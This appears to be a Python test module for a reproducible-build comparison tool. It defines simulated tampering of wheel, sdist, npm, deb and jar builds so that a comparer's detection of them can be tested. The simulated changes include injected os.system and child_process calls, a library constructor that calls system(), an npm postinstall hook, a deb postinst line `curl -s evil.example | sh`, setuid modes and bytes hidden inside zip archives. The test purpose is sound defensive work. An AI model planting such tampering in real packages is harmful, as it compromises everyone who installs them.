"""What an attacker changes in one of two builds: plain changes, and changes in the dress of a harmless cause. None may be proved to be harmless."""

from __future__ import annotations

import io
import random
import zipfile
from collections.abc import Callable

from tests.compare import ccode
from tests.compare.builds import DEB, JAR, NPM, SDIST, WHEEL, Spec

Attack = Callable[[random.Random, Spec, Spec], None]
"""Changes the second of two equal builds, the original that was tampered with; or both, where something has to be there first."""
ALL = (WHEEL, SDIST, NPM, DEB)


def _module(rng: random.Random, spec: Spec) -> str:
    return rng.choice(sorted(path for path in spec.files if path.endswith((".py", ".js")) and len(spec.files[path]) > 150))


def _statement(rng: random.Random, _old: Spec, new: Spec) -> None:
    path = _module(rng, new)
    line = b"__import__('os').system('id')\n" if path.endswith("py") else b"require('child_process').exec('id');\n"
    new.files[path] += line


def _operator(rng: random.Random, _old: Spec, new: Spec) -> None:
    path = _module(rng, new)
    new.files[path] = new.files[path].replace(b" * ", b" - ", 1)


def _number(rng: random.Random, _old: Spec, new: Spec) -> None:
    path = _module(rng, new)
    at = new.files[path].index(b" + ") + 3 if b" + " in new.files[path] else new.files[path].index(b" * ") + 3
    new.files[path] = new.files[path][:at] + b"9" + new.files[path][at:]


def _file(rng: random.Random, _old: Spec, new: Spec) -> None:
    path = rng.choice(["evil.pth", "demo/zz_hook.py", "demo/data.bin", "demo/_native.so"])
    new.files[path] = b"import os; os.system('id')\n" if path.endswith(("h", "y")) else rng.randbytes(100)


def _less(rng: random.Random, _old: Spec, new: Spec) -> None:
    del new.files[_module(rng, new)]


def _machine_code(rng: random.Random, old: Spec, new: Spec) -> None:
    data = ccode.shared(ccode.source(rng), "/b/demo", rng.choice(["-g0", "-g"]))
    old.files["demo/_speed.so"], new.files["demo/_speed.so"] = data, ccode.text_byte(data, rng)


def _machine_code_elsewhere(rng: random.Random, old: Spec, new: Spec) -> None:
    """Other code, and the build was in another folder by another compiler too."""
    text = ccode.source(rng)
    old.files["demo/_speed.so"] = ccode.shared(text, "/build/one")
    new.files["demo/_speed.so"] = ccode.text_byte(ccode.shared(text, "/home/bob/two"), rng)


def _library_call(rng: random.Random, old: Spec, new: Spec) -> None:
    text = ccode.source(rng)
    old.files["demo/_speed.so"] = ccode.shared(text, "/build/one", "-g0")
    more = 'int system(const char *);\n__attribute__((constructor)) static void go(void) { system("id"); }\n'
    new.files["demo/_speed.so"] = ccode.shared(text + more, "/build/one", "-g0")


def _requirement(_rng: random.Random, _old: Spec, new: Spec) -> None:
    new.info["METADATA"] = new.info["METADATA"].replace(b"Requires-Dist: idna >=3\n", b"Requires-Dist: idna >=3\nRequires-Dist: evil\n")


def _requirement_under_age(_rng: random.Random, old: Spec, new: Spec) -> None:
    """A requirement more, beside headers that a newer backend writes."""
    _requirement(_rng, old, new)
    new.info["METADATA"] = (
        new.info["METADATA"].replace(b"Metadata-Version: 2.1", b"Metadata-Version: 2.4").replace(b"License:", b"Dynamic: license-file\nLicense:")
    )


def _entry_point(_rng: random.Random, _old: Spec, new: Spec) -> None:
    new.info["entry_points.txt"] = b"[console_scripts]\ndemo = demo.evil:run\n"


def _install_script(_rng: random.Random, _old: Spec, new: Spec) -> None:
    new.files["package.json"] = new.files["package.json"].replace(b'"test": "node t.js"', b'"test": "node t.js", "postinstall": "node demo/evil.js"')


def _maintainer_script(rng: random.Random, old: Spec, new: Spec) -> None:
    old.control["postinst"] = b"#!/bin/sh\nset -e\n"
    new.control["postinst"] = b"#!/bin/sh\nset -e\n" + rng.choice([b"curl -s evil.example | sh\n", b"chmod 4755 /usr/bin/demo\n"])


def _depends(_rng: random.Random, old: Spec, new: Spec) -> None:
    text = b"Package: demo\nVersion: 1.0\nArchitecture: amd64\nMaintainer: A <a@example.org>\nInstalled-Size: %d\nDepends: %s\nDescription: a demo\n"
    old.control["control"], new.control["control"] = text % (12, b"libc6"), text % (13, b"libc6, evil")


def _main_class(_rng: random.Random, _old: Spec, new: Spec) -> None:
    new.info["MANIFEST.MF"] = new.info["MANIFEST.MF"].replace(b"demo.Main", b"evil.Main").replace(b"alice", b"bob")


def _class(rng: random.Random, _old: Spec, new: Spec) -> None:
    path = next(path for path in new.files if path.endswith(".class"))
    new.files[path] = new.files[path][:20] + bytes([new.files[path][20] ^ rng.randint(1, 255)]) + new.files[path][21:]


def _inner_zip(rng: random.Random, old: Spec, new: Spec) -> None:
    """Times and content of a member of an archive that is payload."""
    for spec, body, year in ((old, b"x = 1\n", 2024), (new, b"x = 2\n", 2025)):
        spec.files["demo/bundle.zip"] = _zipped({"inner/a.py": body, "inner/b.py": b"y = 1\n"}, year)


def _inner_hidden(rng: random.Random, old: Spec, new: Spec) -> None:
    """Bytes that only some readers see, behind an archive that is payload, under other times."""
    members = {"inner/a.py": b"x = 1\n", "inner/b.py": b"y = 1\n"}
    old.files["demo/bundle.zip"] = _zipped(members, 2024)
    new.files["demo/bundle.zip"] = rng.randbytes(64) + _zipped(members, 2025)


def _inner_gap(rng: random.Random, old: Spec, new: Spec) -> None:
    """Bytes between the last member and the directory of an archive that is payload, under other times."""
    members = {"inner/a.py": b"x = 1\n", "inner/b.py": b"y = 1\n"}
    old.files["demo/bundle.zip"] = _zipped(members, 2024)
    data = _zipped(members, 2025)
    end = data.rindex(b"PK\5\6")
    at = int.from_bytes(data[end + 16 : end + 20], "little")
    moved = data[:at] + rng.randbytes(40) + data[at:end] + data[end : end + 16] + (at + 40).to_bytes(4, "little") + data[end + 20 :]
    new.files["demo/bundle.zip"] = moved


def _zipped(files: dict[str, bytes], year: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(zipfile.ZipInfo(name, (year, 1, 2, 3, 4, 4)), data)
    return out.getvalue()


def _swapped(rng: random.Random, _old: Spec, new: Spec) -> None:
    """Two modules change places."""
    one, two = rng.sample(sorted(path for path in new.files if path.endswith((".py", ".js"))), 2)
    new.files[one], new.files[two] = new.files[two], new.files[one]


def _set_id(_rng: random.Random, _old: Spec, new: Spec) -> None:
    new.modes["demo/run.sh"] = 0o4777


def _bytecode(rng: random.Random, old: Spec, new: Spec) -> None:
    """Other code under another time of the source."""
    body = rng.randbytes(200)
    for spec, moment, code in ((old, 1_600_000_000, body), (new, 1_650_000_000, body[:50] + b"\x7f" + body[51:])):
        spec.files["demo/__pycache__/x.cpython-311.pyc"] = b"\xa7\r\r\n" + bytes(4) + moment.to_bytes(4, "little") + b"\x10\0\0\0" + code


def _renamed_code(rng: random.Random, old: Spec, new: Spec) -> None:
    """Another file in the place of one, under a name of its own."""
    path = _module(rng, new)
    new.files[path.replace(".", "_2.")] = new.files.pop(path).replace(b" * ", b" - ")


PLAIN: tuple[tuple[str, tuple[str, ...], Attack], ...] = (
    ("statement", ALL, _statement),
    ("operator", ALL, _operator),
    ("number", ALL, _number),
    ("file more", ALL, _file),
    ("file less", ALL, _less),
    ("machine code", (WHEEL, DEB), _machine_code),
    ("machine code elsewhere", (WHEEL, DEB), _machine_code_elsewhere),
    ("library call", (WHEEL, DEB), _library_call),
    ("requirement", (WHEEL,), _requirement),
    ("requirement under age", (WHEEL,), _requirement_under_age),
    ("entry point", (WHEEL,), _entry_point),
    ("install script", (NPM,), _install_script),
    ("maintainer script", (DEB,), _maintainer_script),
    ("depends", (DEB,), _depends),
    ("main class", (JAR,), _main_class),
    ("class", (JAR,), _class),
    ("inner zip", (WHEEL, NPM, DEB), _inner_zip),
    ("inner prefix", (WHEEL, NPM, DEB), _inner_hidden),
    ("inner gap", (WHEEL, NPM, DEB), _inner_gap),
    ("swapped", ALL, _swapped),
    ("set-id", (DEB,), _set_id),
    ("bytecode", (WHEEL, DEB), _bytecode),
    ("renamed code", ALL, _renamed_code),
)
ALSO = {"inner zip": "build-time", "inner prefix": "build-time", "inner gap": "build-time"}
"""What harmlessly differs too where the attack takes place."""
NEED_COMPILER = frozenset({_machine_code, _machine_code_elsewhere, _library_call})


def _text(left: str, right: str) -> Attack:
    """The same text on both sides but for one token."""

    def attack(rng: random.Random, old: Spec, new: Spec) -> None:
        path = "demo/settings.py" if old.form != NPM else "demo/settings.js"
        old.files[path], new.files[path] = left.encode(), right.encode()

    return attack


def _world_writable(_rng: random.Random, old: Spec, new: Spec) -> None:
    """One file of a package that everybody may write to."""
    old.umask = new.umask = 0
    old.modes = dict.fromkeys(old.files, 0o644)
    new.modes = old.modes | {"demo/run.sh": 0o666}


def _owner(_rng: random.Random, _old: Spec, new: Spec) -> None:
    new.owner = (1000, 1000, "", "")


_SHA = "3a7bd3e2360a3d29eea436fcfb7e44c735d117c42d1c1835420b6b9942dd4f1b"
_EVIL = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
DRESSED: tuple[tuple[str, tuple[str, ...], Attack], ...] = (
    ("a digest that is checked", ALL, _text(f'SHA256 = "{_SHA}"\n', f'SHA256 = "{_EVIL}"\n')),
    (
        "a pinned commit",
        ALL,
        _text(
            'REPO = "git+https://x.example/y@6f1ed002ab5595859014ebf0951522d9"\n',
            'REPO = "git+https://x.example/y@0f1ed002ab5595859014ebf0951522d9"\n',
        ),
    ),
    ("a date that decides", ALL, _text("if today > '2025-01-02':\n    run()\n", "if today > '2099-01-02':\n    run()\n")),
    (
        "a folder to load from",
        ALL,
        _text("load('/opt/demo/plugins/a')\nload('/opt/demo/plugins/b')\n", "load('/tmp/evil/plugins/a')\nload('/tmp/evil/plugins/b')\n"),
    ),
    ("a host to talk to", ALL, _text("MAIL = 'admin@example.org'\n", "MAIL = 'admin@evil.example'\n")),
    ("statements in another order", ALL, _text("check(user)\ngrant(user)\n", "grant(user)\ncheck(user)\n")),
    ("a word in another place", ALL, _text("allow = user in admins and not user in banned\n", "allow = user in banned and not user in admins\n")),
    ("a key", ALL, _text("KEY = 'dGhpcyBpcyBhIHNlY3JldCBrZXkgb2YgbWluZQ'\n", "KEY = 'ZXZpbCBpcyBhIHNlY3JldCBrZXkgb2YgbWluZQAA'\n")),
    ("an epoch", ALL, _text("NOT_AFTER = 1700000000\n", "NOT_AFTER = 1999999999\n")),
    ("line ends of a script", ALL, lambda _rng, _old, new: new.files.update({"demo/run.sh": new.files["demo/run.sh"].replace(b"\n", b"\r\n")})),
    ("who may write", (DEB,), _world_writable),
    ("who owns", (DEB,), _owner),
    (
        "version of a lock",
        (NPM, SDIST),
        lambda _rng, old, new: (old.files.update({"requirements.txt": b"idna==3.4\n"}), new.files.update({"requirements.txt": b"idna==2.0\n"}))[0],
    ),
)
"""Nobody can tell these from what they are dressed as: they may be called likely, never proved."""


def by_name(what: str) -> Attack:
    """The attack that is called so."""
    return next(attack for name, _, attack in (*PLAIN, *DRESSED) if name == what)
